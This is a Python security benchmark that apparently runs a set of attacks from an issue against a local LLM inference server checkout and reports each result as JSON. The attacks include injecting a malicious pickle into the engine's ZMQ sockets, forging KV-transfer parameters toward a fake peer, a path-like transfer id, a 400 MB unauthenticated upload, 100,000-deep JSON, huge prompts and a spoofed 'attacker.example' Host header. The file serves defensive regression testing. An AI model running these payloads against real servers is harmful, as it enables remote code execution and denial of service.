"""The attacks of issue 29, run against the servers of one checkout; one JSON line each.

    python benchmarks/security_attacks.py --checkout . --model TINY_DIR [--only tp,kv,...]
    python benchmarks/security_attacks.py --checkout /tmp/old --model TINY_DIR   # before

The servers run that checkout's code (PYTHONPATH), on the CPU. TINY_DIR is a small Llama
with a tokenizer (`--make-tiny DIR` builds one with transformers: hidden 64, 2 layers,
SmolLM2's tokenizer). The attacker is this process: a client, a local user, a fake
prefill engine. What each line measures:

  tp        `serve -tp 2`: TCP listeners off loopback; a pickle pushed into every socket
            of the engine ran (marker file)?; step frames a stranger's PULL socket got;
            whether the engine still answers afterwards
  kv        prefill + decode engines (tcp): a client's forged kv_transfer_params at the
            decode engine (status, fetches seen by the fake peer), then the same prompt
            asked normally (cached tokens, output equal to a plain engine's?)
  shm       prefill engine (shm): transfer id "x/y" while two streams run (status, the
            streams finished?, the engine alive?); staging file modes
  router    `serve -dp 2 --api-key`: an unauthenticated 400 MB POST (status, router RSS
            growth), /metrics without the key, 100,000-deep JSON, a SIGSTOPped replica
            (seconds until the request ends)
  door      default SmolLM2 server: four 28 MB prompts with five small requests meanwhile
            (their statuses, slowest), a 20 MB token-id list (slowest /health meanwhile),
            a foreign Host header, priority 2**70, /v1/engine/requests ids to a key holder
  profiler  --profile-dir, --api-key: start with the users' key; the longest gap in a
            concurrent stream around stop; the engine's RSS growth over 5 cycles; traces
            kept after 12 cycles
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import pickle
import signal
import tempfile
import threading
import time

import httpx
import zmq
from security_lib import (
    CPU,
    KEY,
    Bomb,
    FakePeer,
    Server,
    cmdline,
    complete,
    descendants,
    endpoints,
    has_flag,
    make_tiny,
    rss_mib,
    upload_status,
    with_signal,
)

ADMIN_KEY = "attack-test-admin-key"


def attack_tp(checkout: str, model: str) -> dict:
    """Connects while the server starts (the ranks are joining: rank 0 reads its control
    socket then), pushes a pickle into every socket and pulls from every one."""
    marker = tempfile.mktemp(prefix="pwned-")
    ctx = zmq.Context()
    socks, seen = [], set()
    with Server(checkout, [model, *CPU, "-tp", "2"], wait=False) as srv:
        deadline = time.monotonic() + 120
        while srv.proc.poll() is None and time.monotonic() < deadline:
            tcp, unix = endpoints(srv.proc.pid)
            targets = [f"tcp://{a}:{p}" for a, p in tcp if p != srv.port]
            targets += [f"ipc://{p}" for p in unix if "cadence-tp-" in p]
            for t in set(targets) - seen:
                seen.add(t)
                push, pull = ctx.socket(zmq.PUSH), ctx.socket(zmq.PULL)
                for s in (push, pull):
                    s.setsockopt(zmq.LINGER, 0)
                    s.connect(t)
                socks += [push, pull]
                with contextlib.suppress(zmq.Again):
                    push.send(pickle.dumps(("ready", Bomb(marker))), zmq.NOBLOCK)
            try:
                if httpx.get(srv.url + "/health", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            time.sleep(0.05)
        try:
            answered = complete(srv.url, [1, 2, 3, 4], timeout=30).status_code == 200
        except httpx.HTTPError:
            answered = False
        stolen = 0
        for s in socks[1::2]:
            while s.poll(100):
                s.recv()
                stolen += 1
        for s in socks:
            s.close(0)
        ctx.term()
        return {
            "tcp_listeners_off_loopback": [
                f"{a}:{p}" for a, p in tcp if a not in ("127.0.0.1", "::1")
            ],
            "pickle_ran": os.path.exists(marker),
            "step_frames_stolen": stolen,
            "engine_answers_after": answered,
        }


def attack_kv(checkout: str, model: str) -> dict:
    with open(os.path.join(model, "config.json")) as f:
        cfg = json.load(f)
    head_dim = cfg["hidden_size"] // cfg["num_attention_heads"]
    block = [2, 16, cfg["num_key_value_heads"], head_dim]
    with (
        Server(checkout, [model, *CPU, "--kv-role", "decode"]) as decode,
        Server(checkout, [model, *CPU]) as plain,
    ):
        peer = FakePeer(cfg["num_hidden_layers"], block)
        prompt = list(range(5, 45))
        forged = {"do_remote_prefill": True, "remote_addr": peer.addr, "transfer_id": "t1"}
        r = complete(decode.url, prompt, kv_transfer_params=forged, timeout=60)
        after = complete(decode.url, prompt).json()
        want = complete(plain.url, prompt).json()
        peer.stop.set()
        return {
            "forged_status": r.status_code,
            "fake_peer_fetches": peer.fetches,
            "next_request_cached_tokens": after["usage"]["prompt_tokens_details"]["cached_tokens"],
            "next_request_equals_plain_engine": after["choices"][0]["text"]
            == want["choices"][0]["text"],
        }


def attack_shm(checkout: str, model: str) -> dict:
    with Server(checkout, [model, *CPU, "--kv-role", "prefill", "--kv-connector", "shm"]) as srv:
        results: list = []

        def stream() -> None:
            try:
                with httpx.stream(
                    "POST",
                    srv.url + "/v1/completions",
                    json={
                        "prompt": [1, 2, 3],
                        "max_tokens": 64,
                        "ignore_eos": True,
                        "stream": True,
                    },
                    timeout=60,
                ) as r:
                    results.append([x for x in r.iter_lines() if x][-1] == "data: [DONE]")
            except httpx.HTTPError:
                results.append(False)

        streams = [threading.Thread(target=stream) for _ in range(2)]
        for t in streams:
            t.start()
        time.sleep(0.3)
        params = {"do_remote_decode": True, "transfer_id": "x/y"}
        r = complete(srv.url, list(range(5, 40)), kv_transfer_params=params, timeout=60)
        for t in streams:
            t.join(60)
        time.sleep(1)
        try:
            alive = httpx.get(srv.url + "/health", timeout=5).status_code == 200
        except httpx.HTTPError:
            alive = False
        ok = (
            complete(
                srv.url,
                list(range(5, 40)),
                kv_transfer_params={"do_remote_decode": True, "transfer_id": "good"},
            )
            if alive
            else None
        )
        modes = []
        for root, dirs, files in os.walk("/dev/shm"):
            for n in dirs + files:
                if "cadence-kv" in os.path.join(root, n):
                    modes.append(oct(os.stat(os.path.join(root, n)).st_mode & 0o777))
        return {
            "bad_id_status": r.status_code,
            "streams_finished": results,
            "engine_alive_after": alive,
            "a_clients_own_params_status": ok.status_code if ok is not None else None,
            "staging_modes": sorted(set(modes)),
        }


def attack_router(checkout: str, model: str) -> dict:
    auth = {"Authorization": f"Bearer {KEY}"}
    with Server(checkout, [model, *CPU, "--cpu-threads", "1", "-dp", "2", "--api-key", KEY]) as srv:
        before = rss_mib(srv.proc.pid)
        line = upload_status(
            srv.port,
            f"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {400 << 20}\r\n\r\n",
            400 << 20,
        )
        grew = rss_mib(srv.proc.pid) - before
        metrics = httpx.get(srv.url + "/metrics").status_code
        deep = httpx.post(
            srv.url + "/v1/completions",
            content="[" * 100_000 + "]" * 100_000,
            headers={**auth, "content-type": "application/json"},
        ).status_code
        replicas = [p for p in descendants(srv.proc.pid) if b"cadence::api" in cmdline(p)]
        out: dict = {}

        def ask() -> None:
            t0 = time.monotonic()
            try:
                r = httpx.post(
                    srv.url + "/v1/completions",
                    json={"prompt": [1, 2, 3], "max_tokens": 200, "ignore_eos": True},
                    headers=auth,
                    timeout=120,
                )
                out["status"] = r.status_code
            except httpx.HTTPError as e:
                out["status"] = type(e).__name__
            out["seconds"] = round(time.monotonic() - t0, 1)

        t = threading.Thread(target=ask)
        t.start()
        time.sleep(0.5)
        stopped = [p for r in replicas for p in [r, *descendants(r)]]
        for p in stopped:
            with_signal(p, signal.SIGSTOP)
        t.join(120)
        for p in stopped:
            with_signal(p, signal.SIGCONT)
        return {
            "unauthenticated_400MB_post": line,
            "router_rss_growth_mib": round(grew, 1),
            "metrics_without_key": metrics,
            "deep_json_status": deep,
            "stopped_replica_request": out,
        }


async def _door(url: str) -> dict:
    auth = {"Authorization": f"Bearer {KEY}"}
    async with httpx.AsyncClient(base_url=url, timeout=300, headers=auth) as c:
        big = "word " * (28 * 2**20 // 5)

        async def timed(coro):
            t0 = time.monotonic()
            try:
                status = (await coro).status_code
            except httpx.HTTPError as e:  # (a server that fell over answers nothing)
                status = type(e).__name__
            return status, round(time.monotonic() - t0, 2)

        bigs = [
            asyncio.create_task(
                timed(c.post("/v1/completions", json={"prompt": big, "max_tokens": 1}))
            )
            for _ in range(4)
        ]
        await asyncio.sleep(2.0)
        smalls = [
            await timed(c.post("/v1/completions", json={"prompt": "Hello", "max_tokens": 2}))
            for _ in range(5)
        ]
        big_results = await asyncio.gather(*bigs)
        body = json.dumps({"prompt": [1] * (10 * 2**20), "max_tokens": 1})
        worst = 0.0
        done = asyncio.Event()

        async def probe():
            nonlocal worst
            while not done.is_set():
                t0 = time.monotonic()
                with contextlib.suppress(httpx.HTTPError):
                    await c.get("/health")
                worst = max(worst, time.monotonic() - t0)
                await asyncio.sleep(0.05)

        p = asyncio.create_task(probe())
        await asyncio.sleep(0.3)
        ids = await timed(
            c.post("/v1/completions", content=body, headers={"content-type": "application/json"})
        )
        done.set()
        await p
        host = (await timed(c.get("/v1/models", headers={"Host": "attacker.example"})))[0]
        prio = (
            await timed(
                c.post("/v1/completions", json={"prompt": "Hi", "max_tokens": 1, "priority": 2**70})
            )
        )[0]
        stream = asyncio.create_task(
            timed(
                c.post(
                    "/v1/completions", json={"prompt": "Hi", "max_tokens": 200, "ignore_eos": True}
                )
            )
        )
        await asyncio.sleep(0.5)
        try:
            table = (await c.get("/v1/engine/requests")).json()
        except (httpx.HTTPError, ValueError):
            table = {}
        await stream
        return {
            "small_requests_during_4x28MB": smalls,
            "28MB_prompts": big_results,
            "20MB_id_list": ids,
            "slowest_health_during_id_list_s": round(worst, 2),
            "foreign_host_status": host,
            "priority_2**70_status": prio,
            "request_ids_shown_to_key_holder": any("id" in r for r in table.get("requests", [])),
        }


def admin_args(checkout: str) -> tuple[list[str], dict]:
    """--admin-api-key where the checkout has it: (server flags, the operator's header)."""
    if has_flag(checkout, "--admin-api-key"):
        return ["--admin-api-key", ADMIN_KEY], {"Authorization": f"Bearer {ADMIN_KEY}"}
    return [], {"Authorization": f"Bearer {KEY}"}


def attack_door(checkout: str, model: str) -> dict:
    flags, _ = admin_args(checkout)
    with Server(checkout, ["--api-key", KEY, *flags, "--kv-cache-memory", str(256 << 20)]) as srv:
        return asyncio.run(_door(srv.url))


def attack_profiler(checkout: str, model: str) -> dict:
    out_dir = tempfile.mkdtemp(prefix="traces-")
    flags, auth = admin_args(checkout)  # (the operator's key from here on)
    users = {"Authorization": f"Bearer {KEY}"}
    args = ["--api-key", KEY, *flags, "--profile-dir", out_dir, "--kv-cache-memory", str(256 << 20)]
    with Server(checkout, args) as srv:
        engine = next(p for p in descendants(srv.proc.pid) if b"cadence::engine" in cmdline(p))
        start = httpx.post(srv.url + "/start_profile", headers=users).status_code
        if start == 200:
            httpx.post(srv.url + "/stop_profile", headers=users, timeout=300)
        httpx.post(srv.url + "/start_profile", headers=auth)
        gaps: list[float] = []

        def stream() -> None:
            last = None
            with httpx.stream(
                "POST",
                srv.url + "/v1/completions",
                json={
                    "prompt": "Tell me a story",
                    "max_tokens": 400,
                    "ignore_eos": True,
                    "stream": True,
                },
                headers=auth,
                timeout=300,
            ) as r:
                for line in r.iter_lines():
                    now = time.monotonic()
                    if line and last is not None:
                        gaps.append(now - last)
                    last = now if line else last

        t = threading.Thread(target=stream)
        t.start()
        time.sleep(3)
        httpx.post(srv.url + "/stop_profile", headers=auth, timeout=300)
        t.join(300)
        rss0 = rss_mib(engine)
        for _ in range(11):
            httpx.post(srv.url + "/start_profile", headers=auth)
            complete(srv.url, "Hello there", timeout=60)
            httpx.post(srv.url + "/stop_profile", headers=auth, timeout=300)
        time.sleep(2)
        return {
            "start_with_users_key": start,
            "longest_stream_gap_around_stop_s": round(max(gaps), 2),
            "engine_rss_growth_11_cycles_mib": round(rss_mib(engine) - rss0, 1),
            "traces_kept_after_12_cycles": len(
                [f for f in os.listdir(out_dir) if f.endswith(".json.gz") and not f.startswith(".")]
            ),
        }


ATTACKS = {
    "tp": attack_tp,
    "kv": attack_kv,
    "shm": attack_shm,
    "router": attack_router,
    "door": attack_door,
    "profiler": attack_profiler,
}


def main() -> None:
    ap = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("--checkout", default=".")
    ap.add_argument("--model", help="a tiny Llama folder with a tokenizer")
    ap.add_argument("--make-tiny", metavar="DIR", help="build one there and exit")
    ap.add_argument("--only", default=",".join(ATTACKS))
    args = ap.parse_args()
    if args.make_tiny:
        make_tiny(args.make_tiny)
        return
    checkout = os.path.abspath(args.checkout)
    for name in args.only.split(","):
        t0 = time.monotonic()
        try:
            result = ATTACKS[name](checkout, args.model)
        except Exception as e:  # one attack's failure is a result too
            result = {"error": f"{type(e).__name__}: {e}"}
        result["seconds"] = round(time.monotonic() - t0, 1)
        print(json.dumps({"attack": name, "checkout": checkout, **result}), flush=True)


if __name__ == "__main__":
    main()
